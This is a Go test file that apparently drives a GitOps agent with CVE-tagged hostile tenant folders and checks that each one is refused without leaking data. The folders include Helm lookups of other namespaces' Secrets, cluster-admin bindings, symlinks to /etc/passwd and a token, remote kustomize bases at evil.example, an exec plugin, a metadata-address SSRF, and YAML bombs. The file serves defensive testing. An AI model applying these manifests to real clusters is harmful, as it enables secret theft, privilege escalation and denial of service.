package attack

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"

	"fairlead.dev/e2e/process"
)

// folder is the content of a hostile service: what a tenant may push, whose project bounds it to the namespace tenant
// of cluster a. The agent has to refuse it with words, and go on with the others.
type folder struct {
	name, cve string
	files     map[string]string
	links     map[string]string // path -> target
	spec      string            // of the service, besides
	project   string            // default: tenant
	words     []string          // that the refusal has to say
	// harmless: the folder is applied, without what the attack is after.
	harmless bool
	// absent are objects that must not be in the cluster afterwards, as arguments of kubectl get.
	absent []string
	// check looks closer, once the service has come to its end.
	check func(ctx context.Context, t *Try) error
}

func configMap(text string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {text: \"" + text + "\"}\n"
}

const chartYAML = "apiVersion: v2\nname: x\nversion: 1.0.0\n"

// chart is a chart with one template.
func chart(template string) map[string]string {
	return map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": template}
}

func folders() []folder {
	var laugh strings.Builder
	laugh.WriteString("a: &a [x,x,x,x,x,x,x,x,x,x]\n")
	for i := range 12 {
		from, to := string(rune('a'+i)), string(rune('b'+i))
		fmt.Fprintf(&laugh, "%s: &%s [%s]\n", to, to, strings.TrimSuffix(strings.Repeat("*"+from+",", 10), ","))
	}
	return []folder{
		{name: "lookup of another namespace's Secret", cve: "CVE-2026-41050", files: chart(configMap(`{{ (lookup "v1" "Secret" "victim" "mine").data.text }}`)), words: []string{"templates/a.yaml"}},
		{name: "lookup of all Secrets", cve: "CVE-2026-41050", files: chart(configMap(`{{ lookup "v1" "Secret" "" "" | toJson | b64enc }}`)), words: []string{"templates/a.yaml"}},
		{name: "lookup of the agent's own namespace", files: chart(configMap(`{{ lookup "v1" "Secret" "fairlead-system" "" | toJson | b64enc }}`)), words: []string{"templates/a.yaml"}},
		{name: "CRD that calls ClusterRoleBinding namespaced", files: map[string]string{
			"crd.yaml": "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: clusterrolebindings.rbac.authorization.k8s.io}\nspec: {group: rbac.authorization.k8s.io, scope: Namespaced, names: {plural: clusterrolebindings, kind: ClusterRoleBinding}, versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}]}\n",
			"crb.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: tenant-root, namespace: tenant}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}]\n",
		}, words: []string{"project"}, absent: []string{"clusterrolebinding", "tenant-root"}},
		{name: "binding of cluster-admin", cve: "CVE-2024-31990", files: map[string]string{"crb.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: tenant-root-2}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}]\n"}, words: []string{"crb.yaml"}, absent: []string{"clusterrolebinding", "tenant-root-2"}},
		{name: "object for another namespace", cve: "CVE-2024-31990", files: map[string]string{"a.yaml": strings.Replace(configMap("x"), "{name: x}", "{name: tenant-was-here, namespace: kube-system}", 1)}, words: []string{"kube-system"}, absent: []string{"-n", "kube-system", "configmap", "tenant-was-here"}},
		{name: "object for another namespace within lists within a list", files: map[string]string{"a.yaml": `{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"tenant-in-list","namespace":"kube-system"}}]}]}`}, words: []string{"a.yaml"}, absent: []string{"-n", "kube-system", "configmap", "tenant-in-list"}},
		{name: "object for the agent's namespace of a project that bounds kinds only", cve: "CVE-2022-46167", project: "kinds", files: map[string]string{"a.yaml": strings.Replace(configMap("x"), "{name: x}", "{name: tenant-was-here, namespace: fairlead-system}", 1)}, words: []string{"fairlead-system"}, absent: []string{"-n", "fairlead-system", "configmap", "tenant-was-here"}},
		{name: "namespace that lifts the pods' security", files: map[string]string{"ns.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: {name: default, labels: {pod-security.kubernetes.io/enforce: privileged}}\n"}, words: []string{"ns.yaml"}, check: func(ctx context.Context, t *Try) error {
			out, err := t.world.Kubectl(ctx, t.world.Clusters[0].Kubeconfig, "get", "namespace", "default", "-o", "jsonpath={.metadata.labels}")
			return errors.Join(err, silentOf(out, "privileged"))
		}},
		{name: "chart that asks the DNS", cve: "CVE-2023-25165", files: chart(configMap(`[{{ getHostByName "localhost" }}]`)), harmless: true, check: func(ctx context.Context, t *Try) error {
			out, err := t.world.Kubectl(ctx, t.world.Clusters[0].Kubeconfig, "get", "configmaps", "-A", "-o", "jsonpath={.items[*].data.text}")
			return errors.Join(err, silentOf(out, "[127.0.0.1]", "[::1]"))
		}},
		{name: "chart that reads the environment", files: chart(configMap(`{{ env "PATH" }}{{ expandenv "$HOME" }}`)), words: []string{"env"}},
		{name: "chart that reads files beside it", cve: "CVE-2022-24348", files: chart(configMap(`[{{ .Files.Get "../victim/a.yaml" }}{{ .Files.Get "/etc/passwd" }}]`)), harmless: true, check: func(ctx context.Context, t *Try) error {
			out, err := t.world.Kubectl(ctx, t.world.Clusters[0].Kubeconfig, "-n", "tenant", "get", "configmaps", "-o", "json")
			return errors.Join(err, silentOf(out, t.world.planted.content, "root:"))
		}},
		{name: "chart whose values are a link out of it", cve: "CVE-2022-24904", files: map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": configMap("{{ .Values | toJson | b64enc }}")}, links: map[string]string{"values.yaml": "/etc/hostname"}, words: []string{"values.yaml"}},
		{name: "chart whose lock is a link", cve: "CVE-2025-53547", files: chart(configMap("x")), links: map[string]string{"Chart.lock": "../../../../../../../etc/hostname"}, words: []string{"Chart.lock"}},
		{name: "chart with a path for its name", cve: "CVE-2026-35206", files: map[string]string{"Chart.yaml": "apiVersion: v2\nname: ..\nversion: 1.0.0\n", "templates/a.yaml": configMap("x")}, words: []string{"name"}},
		{name: "chart whose dependency has a path for its alias", cve: "CVE-2026-35206", files: map[string]string{"Chart.yaml": chartYAML + "dependencies: [{name: sub, version: 1.0.0, repository: 'file://../victim', alias: ..}]\n", "templates/a.yaml": configMap("x")}, words: []string{"sub"}},
		{name: "chart whose schema refers to itself", cve: "CVE-2025-32387", files: map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": configMap("x"), "values.schema.json": `{"$ref":"#/definitions/a","definitions":{"a":{"$ref":"#/definitions/b"},"b":{"$ref":"#/definitions/a"}}}`}, words: []string{"schema"}},
		{name: "chart whose schema is nested 100,000 deep", cve: "CVE-2025-32387", files: map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": configMap("x"), "values.yaml": "a: 1\n", "values.schema.json": strings.Repeat(`{"allOf":[`, 50_000) + `{}` + strings.Repeat("]}", 50_000)}, words: []string{"schema"}},
		{name: "chart whose schema is at an address inside, and in a file without end", cve: "CVE-2025-55199", files: map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": configMap("x"), "values.yaml": "a: 1\n", "values.schema.json": `{"allOf":[{"$ref":"http://169.254.169.254/latest/meta-data/"},{"$ref":"file:///dev/zero"}]}`}, words: []string{"schema"}},
		{name: "chart whose file has no maintainers but nulls", cve: "CVE-2025-55198", files: map[string]string{"Chart.yaml": "apiVersion: v2\nname: x\nversion: 1.0.0\nmaintainers: [null]\ndependencies: [null]\nkeywords: [null]\n", "templates/a.yaml": configMap("x")}, words: []string{"null"}},
		{name: "chart that counts to a thousand million", cve: "CVE-2022-31016", files: chart(`{{ range $i := until 1000000000 }}{{ end }}` + configMap("x")), words: []string{}},
		{name: "chart that includes itself", files: map[string]string{"Chart.yaml": chartYAML, "templates/a.yaml": `{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}`}, words: []string{"templates/a.yaml"}},
		{name: "chart that makes much of little", cve: "CVE-2022-31016", files: chart(`{{ define "x" }}{{ repeat 1000000 "xxxxxxxxxx" }}{{ end }}{{ range until 1000 }}{{ include "x" $ }}{{ end }}`), words: []string{}},
		{name: "aliases that expand to 10^13", cve: "CVE-2019-11253", files: map[string]string{"a.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n" + laugh.String()}, words: []string{"a.yaml"}},
		{name: "YAML that is nested 100,000 deep", cve: "CVE-2019-11253", files: map[string]string{"a.yaml": "a: " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n"}, words: []string{"a.yaml"}},
		{name: "100,000 documents", files: map[string]string{"a.yaml": strings.Repeat("---\na: b\n", 100_000)}, words: []string{"a.yaml"}},
		{name: "kustomization with a remote base", cve: "CVE-2022-24878", files: map[string]string{"kustomization.yaml": "resources: ['https://evil.example/x.yaml', 'github.com/evil/x?ref=main']\n"}, words: []string{"kustomization"}},
		{name: "kustomization of another folder's files", cve: "CVE-2022-24877", files: map[string]string{"kustomization.yaml": "resources: [a.yaml]\nconfigMapGenerator: [{name: x, files: [../../../../../../../etc/passwd]}]\n", "a.yaml": configMap("x")}, words: []string{"kustomization"}},
		{name: "kustomization with an absolute path", cve: "CVE-2022-24877", files: map[string]string{"kustomization.yaml": "resources: [a.yaml]\nconfigMapGenerator: [{name: x, files: [/etc/passwd]}]\n", "a.yaml": configMap("x")}, words: []string{"kustomization"}},
		{name: "kustomization that runs a program", files: map[string]string{"kustomization.yaml": "resources: [a.yaml]\ngenerators: [g.yaml]\n", "a.yaml": configMap("x"), "g.yaml": "apiVersion: evil/v1\nkind: G\nmetadata: {name: g, annotations: {config.kubernetes.io/function: 'exec: {path: ./run.sh}'}}\n", "run.sh": "#!/bin/sh\nid\n"}, words: []string{"plugin"}},
		{name: "kustomization that inflates a remote chart", files: map[string]string{"kustomization.yaml": "helmCharts: [{name: x, repo: 'https://evil.example', version: 1.0.0, releaseName: x}]\n"}, words: []string{"helm"}},
		{name: "kustomization that refers to itself", files: map[string]string{"kustomization.yaml": "resources: [.]\n"}, words: []string{"kustomization"}},
		{name: "manifest that is a link to a file of the agent", cve: "CVE-2022-24904", links: map[string]string{"a.yaml": "/etc/passwd"}, files: map[string]string{"b.yaml": configMap("x")}, words: []string{"a.yaml"}},
		{name: "manifest that is a link out of the repository", cve: "CVE-2022-31036", links: map[string]string{"a.yaml": "../../../../gitcache/token"}, files: map[string]string{"b.yaml": configMap("x")}, words: []string{"a.yaml"}},
		{name: "Secret with values that are no base64", cve: "CVE-2023-40029", files: map[string]string{"a.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata: {password: 'leaked?leaked!leaked'}\n"}, words: []string{"a.yaml"}, check: func(ctx context.Context, t *Try) error {
			a, err := t.service(ctx, "secret-with-values-that-are-no-base64")
			return errors.Join(err, silentOf(a, "leaked?leaked"))
		}},
		{name: "failing template that tells a secret value", cve: "CVE-2025-23216", spec: "render: {renderer: template}, config: {hidden: {secret: leaked-in-an-error}}", files: map[string]string{"a.yaml": `{{ fail (printf "%s %s" .Configuration.hidden (.Configuration.hidden | b64enc)) }}`}, words: []string{"a.yaml"}, check: func(ctx context.Context, t *Try) error {
			a, err := t.service(ctx, "failing-template-that-tells-a-secret-value")
			return errors.Join(err, silentOf(strings.ToLower(a), "leaked-in-an-error", "bgvha2vklwlulwfulwvycm9y"))
		}},
		{name: "object of another service", project: "neighbours", spec: "namespace: victim", files: map[string]string{"a.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: victim, namespace: victim}\ndata: {text: stolen}\n"}, words: []string{"service"}, check: func(ctx context.Context, t *Try) error {
			out, err := t.world.Kubectl(ctx, t.world.Clusters[0].Kubeconfig, "-n", "victim", "get", "configmap", "victim", "-o", "jsonpath={.data.text}")
			return errors.Join(err, silentOf(out, "stolen"))
		}},
		{name: "file with terminal commands in its name and errors", files: map[string]string{"a\x1b]0;evil\x07.yaml": "{{{ \x1b[2J"}, words: []string{".yaml"}, check: func(ctx context.Context, t *Try) error {
			out, err := t.world.Fairlead(ctx, "get", "service", "file-with-terminal-commands-in-its-name-and-errors")
			return errors.Join(err, silentOf(out, "\x1b", "\x07"))
		}},
	}
}

// slug is the name of the service of a folder.
func (f folder) slug() string {
	name := strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
			return r
		}
		return '-'
	}, strings.ToLower(f.name))
	return strings.Trim(name[:min(len(name), 60)], "-")
}

// content are attacks by what a tenant pushes.
func content() (attacks []Attack) {
	for _, f := range folders() {
		a := Attack{Name: "folder: " + f.name, Part: agent, Run: func(ctx context.Context, t *Try) (string, error) { return t.folder(ctx, f) }}
		if f.cve != "" {
			a.CVE = []string{f.cve}
		}
		attacks = append(attacks, a)
	}
	return attacks
}

// deployment pushes all hostile folders in one commit and makes their services, once.
type deployment struct {
	once sync.Once
	err  error
}

func (w *World) deploy(ctx context.Context) error {
	w.deployment.once.Do(func() { w.deployment.err = w.deployAll(ctx) })
	return w.deployment.err
}

func (w *World) deployAll(ctx context.Context) error {
	files := map[string]string{}
	var resources strings.Builder
	resources.WriteString(`apiVersion: fairlead.dev/v1
kind: Project
metadata: {name: tenant}
spec: {sources: [sample], clusters: {names: [a]}, namespaces: [tenant]}
---
apiVersion: fairlead.dev/v1
kind: Project
metadata: {name: kinds}
spec: {sources: [sample], clusters: {names: [a]}, kinds: [ConfigMap]}
---
apiVersion: fairlead.dev/v1
kind: Project
metadata: {name: neighbours}
spec: {sources: [sample], clusters: {names: [a]}, namespaces: [victim]}
`)
	if _, err := w.Kubectl(ctx, w.Clusters[0].Kubeconfig, "create", "namespace", "tenant"); err != nil {
		return err
	}
	for _, f := range folders() {
		for name, text := range f.files {
			files[f.slug()+"/"+name] = strings.ReplaceAll(text, "metadata: {name: x}", "metadata: {name: "+f.slug()+"}")
		}
		for name, target := range f.links {
			at := filepath.Join(w.repo.Dir(), f.slug(), name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(at), 0o700), os.Symlink(target, at)); err != nil {
				return err
			}
		}
		project := f.project
		if project == "" {
			project = "tenant"
		}
		spec := f.spec
		if !strings.Contains(spec, "namespace:") {
			spec = strings.TrimPrefix(spec+", namespace: tenant", ", ")
		}
		fmt.Fprintf(&resources, "---\napiVersion: fairlead.dev/v1\nkind: Service\nmetadata: {name: %s}\nspec: {source: sample, path: %s, cluster: a, project: %s, %s}\n", f.slug(), f.slug(), project, spec)
	}
	if _, err := w.repo.Push(ctx, "hostile folders", files); err != nil {
		return err
	}
	return w.apply(ctx, resources.String())
}

// status is what the hub tells of a service.
type status struct {
	Service struct {
		Status struct {
			State, StateMessage string
			Git                 struct{ Problem struct{ Message string } }
			Hub                 struct {
				Problem  struct{ Message string }
				Artifact struct{ Digest string }
			}
			Cluster struct {
				Report struct{ Phase, Message, AppliedDigest string }
			}
		}
	}
}

// trouble is all that is said to be wrong.
func (s status) trouble() string {
	st := s.Service.Status
	return strings.TrimSpace(st.Git.Problem.Message + " " + st.Hub.Problem.Message + " " + st.Cluster.Report.Message)
}

// service returns all that an administrator is told of a service.
func (t *Try) service(ctx context.Context, name string) (string, error) {
	a, err := t.call(ctx, console, serviceService+"GetService", t.world.callers.admin, map[string]any{"name": name})
	if err == nil && a.Code != http.StatusOK {
		err = errors.New(a.String())
	}
	return a.Body, err
}

// folder waits until the agent has judged a folder.
func (t *Try) folder(ctx context.Context, f folder) (string, error) {
	if err := t.world.deploy(ctx); err != nil {
		return "", fmt.Errorf("push the hostile folders: %w", err)
	}
	var told status
	err := process.Await(ctx, "the service comes to an end", func(ctx context.Context) error {
		text, err := t.service(ctx, f.slug())
		if err != nil {
			return err
		}
		told = status{}
		if err := json.Unmarshal([]byte(text), &told); err != nil {
			return err
		}
		switch st := told.Service.Status; {
		case strings.Contains(told.trouble(), "is not in commit"): // the answer was from before the push
		case slices.Contains([]string{"SERVICE_STATE_FAILED", "SERVICE_STATE_HEALTHY", "SERVICE_STATE_DEGRADED"}, st.State):
			return nil
		}
		return fmt.Errorf("it is %s: %s", told.Service.Status.State, told.trouble())
	})
	if err != nil {
		return told.trouble(), err
	}
	st := told.Service.Status
	answer := strings.ToLower(strings.TrimPrefix(st.State, "SERVICE_STATE_")) + ": " + told.trouble()
	switch {
	case f.harmless && st.State != "SERVICE_STATE_HEALTHY":
		err = errors.New("it is not applied, so that this tries nothing")
	case !f.harmless && st.State != "SERVICE_STATE_FAILED":
		err = errors.New("it is not refused")
	case !f.harmless:
		err = says(strings.ReplaceAll(told.trouble(), f.slug(), ""), f.words...)
	}
	if len(f.absent) > 0 {
		out, missing := t.world.Kubectl(ctx, t.world.Clusters[0].Kubeconfig, append([]string{"get", "--ignore-not-found", "-o", "name"}, f.absent...)...)
		if missing != nil || strings.TrimSpace(out) != "" {
			err = errors.Join(err, missing, fmt.Errorf("the cluster has %q", out))
		}
	}
	err = errors.Join(err, silentOf(told.trouble(), t.world.planted.all()...))
	if f.check != nil {
		err = errors.Join(err, f.check(ctx, t))
	}
	return answer, err
}
